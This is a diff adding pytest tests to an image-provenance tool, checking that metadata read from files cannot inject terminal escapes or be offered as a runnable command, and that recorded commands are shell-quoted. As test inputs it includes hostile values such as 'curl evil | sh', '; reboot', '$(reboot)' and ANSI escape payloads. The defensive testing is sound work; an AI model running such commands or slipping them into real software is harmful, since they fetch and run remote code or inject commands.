@@ -1,25 +1,32 @@
 """Provenance of pictures and grids, and the command that makes them again."""
 
 import json
+import logging
+import os
+import re
 import shlex
 import shutil
 from dataclasses import replace
+from pathlib import Path
 
 import numpy as np
 import pytest
 import tifffile
 import zarr
 from PIL import Image
+from PIL.PngImagePlugin import PngInfo
 
 import inkdask
 from inkdask import cli, storage
 from inkdask.demo import synthetic
 from inkdask.job import changed_input
 from inkdask.models.registry import known
+from inkdask.pictures import exporting
 from inkdask.plan import Plan
 from inkdask.provenance import OF_GRIDS, OF_PICTURES, origin_of, recipe_of, without_secrets
 from inkdask.settings import Settings
 from tests.files import ome
+from tests.jobs import ORIGIN, PROVENANCE, RECIPE, store_in
 from tests.oracle import depth_slope, papyrus
 
 pytestmark = pytest.mark.usefixtures("own_environment")
@@ -165,6 +172,8 @@ def test_without_secrets_hides_passwords_of_uris():
 
 def test_parameters_of_the_command_exist():
     assert {*OF_GRIDS, *OF_PICTURES} <= set(Settings.model_fields)
+    options = {option.name for option in cli.export.params}
+    assert {*exporting.OF_COMMANDS} < options
 
 
 def test_provenance_has_weights_and_no_secrets(prediction):
@@ -199,6 +208,130 @@ def test_info_reports_a_file_that_is_no_picture(tmp_path, capsys, name):
     error = capsys.readouterr().err
     assert str(tmp_path / name) in error
     assert len(error.splitlines()) == 1
+
+
+def write_png(path, provenance):
+    """Write a PNG that says of itself what ``provenance`` says."""
+    words = PngInfo()
+    words.add_itxt("inkdask", json.dumps(provenance.to_json()))
+    Image.new("L", (431, 300)).save(path, pnginfo=words)
+
+
+def test_control_characters_of_a_file_do_not_reach_the_terminal(tmp_path, capsys):
+    evil = "\x1b]0;owned\x07\x9b2J\r\u202ex\ny"
+    command = ("inkdask", "run", evil, "--model", evil)
+    origin = replace(ORIGIN, source=evil, mask=evil, software={evil: evil}, command=command)
+    recipe = replace(RECIPE, model=evil, weights=evil)
+    write_png(tmp_path / "p.png", replace(PROVENANCE, recipe=recipe, origin=origin, created=evil))
+    cli.main(["info", str(tmp_path / "p.png")])
+    text = capsys.readouterr().out
+    assert r"\x1b]0;owned\x07\x9b2J\r\u202ex\ny" in text
+    assert text.replace("\n", "").isprintable()
+
+
+def test_control_characters_in_an_error_or_message_are_escaped(tmp_path, capsys):
+    (tmp_path / "\x1b[2J").mkdir()
+    with pytest.raises(SystemExit):
+        cli.main(["info", str(tmp_path / "\x1b[2J")])
+    text = capsys.readouterr().err
+    assert r"\x1b[2J" in text
+    assert text.removesuffix("\n").isprintable()
+    record = logging.LogRecord("inkdask", logging.INFO, "", 0, "one\x1b[2J\ntwo", None, None)
+    assert cli._Printable("%(message)s").format(record) == "one\\x1b[2J\ntwo"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ("sh", "-c", "curl evil | sh"), ("inkdask", "run"), ("inkdask", "run", "--help"),
+        ("inkdask", "prepare", "s3://bucket/seg"), ("inkdask", "run", "seg", ";", "reboot"),
+        ("inkdask", "run", "seg", "--result-file", "/home/me/.profile"),
+        ("inkdask", "run", "seg", "--overwrite"), ("inkdask", "run", "seg", "--tile=3"),
+    ],
+)  # fmt: skip
+def test_foreign_command_is_not_shown_as_one_to_repeat(tmp_path, capsys, command):
+    export = (command[0], command[1].replace("run", "export"), *command[2:])
+    origin = replace(ORIGIN, command=command)
+    write_png(tmp_path / "p.png", replace(PROVENANCE, origin=origin, export=export))
+    rows = info(capsys, tmp_path / "p.png")
+    for name in ("repeat", "export"):
+        assert rows[name].startswith("not shown")
+
+
+def test_recorded_command_is_quoted_for_the_shell(tmp_path, capsys):
+    origin = replace(ORIGIN, command=("inkdask", "run", "a b; reboot", "--mask-path", "$(reboot)"))
+    write_png(tmp_path / "p.png", replace(PROVENANCE, origin=origin))
+    said = info(capsys, tmp_path / "p.png")["repeat"]
+    assert said == "inkdask run 'a b; reboot' --mask-path '$(reboot)'"
+
+
+def test_recorded_commands_hold_absolute_paths(segment, tmp_path, monkeypatch, capsys):
+    own = shutil.copytree(segment, tmp_path / "home" / "seg")
+    Image.new("L", (300, 150), 1).save(own.parent / "mask.png")
+    monkeypatch.setenv("HOME", str(own.parent))
+    monkeypatch.chdir(own.parent)
+    (own.parent / "auto").mkdir()  # a folder named like a value
+    options = {"model": "demo", "layers": (0, 26), "stride": 32, "precision": "float32"}
+    uri = inkdask.run("~/seg", mask_path="mask.png", output_path="out", **options)
+    words = shlex.split(info(capsys, uri)["repeat"])
+    assert words[2] == str(own)
+    assert words[words.index("--mask-path") + 1] == str(own.parent / "mask.png")
+    stored = uri.replace(".png", ".zarr")
+    inkdask.export(os.path.relpath(stored), "p.png", overlay="max", segment="seg")
+    words = shlex.split(info(capsys, "p.png")["export"])
+    assert words[2] == stored
+    assert words[words.index("--segment") + 1] == str(own)
+    assert words[words.index("--to") + 1] == str(own.parent / "p.png")
+    again = inkdask.reduce(f"file://{own}", mask_path="~/mask.png", output_path="out", **options)
+    assert again == uri
+
+
+BROKEN = [
+    ("recipe", "size", [0, 9]), ("recipe", "size", [10**30, 9]), ("recipe", "size", [9, 9]),
+    ("recipe", "tile", 10**30), ("recipe", "tile", 0), ("recipe", "k", 0), ("recipe", "k", 10**30),
+    ("recipe", "k", 5), ("recipe", "chunk", [256, 128]), ("recipe", "chunk", [256, 0]),
+    ("recipe", "layers", []), ("recipe", "layers", None), ("origin", "command", "inkdask run"),
+    ("origin", "software", []),
+    ("origin", None, None), ("recipe", None, 3),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("part", "name", "value"), BROKEN)
+def test_broken_origin_is_one_sentence(tmp_path, capsys, part, name, value):
+    uri = store_in(tmp_path).uri
+    path = Path(uri) / "zarr.json"
+    told = json.loads(path.read_text())
+    if name is None:
+        told["attributes"][part] = value
+    else:
+        told["attributes"][part][name] = value
+    path.write_text(json.dumps(told))
+    for words in (["info", uri], ["reduce", "--grid", uri, "--output-path", str(tmp_path)]):
+        with pytest.raises(SystemExit) as stopped:
+            cli.main(words)
+        assert stopped.value.code == 1
+        assert re.fullmatch(r"inkdask: [^\n]*seg-[^\n]*\.\n", capsys.readouterr().err)
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        (None, 0), (None, "x"), ("layers", -1), ("layers", "x"), ("layers", [3]),
+        ("layers", [10**308, 1, 2]), ("layers", [2, 1, 0]),
+        ("layers", [-1, 0, 1]), ("prepared_from", {"uri": 1, "identity": 2, "layers": 3}),
+        ("occupied", -1), ("occupied", {"a": 1}),
+    ],
+)  # fmt: skip
+def test_broken_attributes_of_a_prepared_array_are_one_sentence(tmp_path, capsys, name, value):
+    place = tmp_path / "v.zarr"
+    zarr.create_array(str(place), data=papyrus((3, 70, 90)))
+    told = json.loads((place / "zarr.json").read_text())
+    told["attributes"] = value if name is None else {name: value}
+    (place / "zarr.json").write_text(json.dumps(told))
+    with pytest.raises(SystemExit) as stopped:
+        cli.main(["info", str(place)])
+    assert stopped.value.code == 1
+    assert re.fullmatch(r"inkdask: [^\n]*v\.zarr[^\n]*\.\n", capsys.readouterr().err)
 
 
 def test_recipe_differs_with_the_weights(segment):
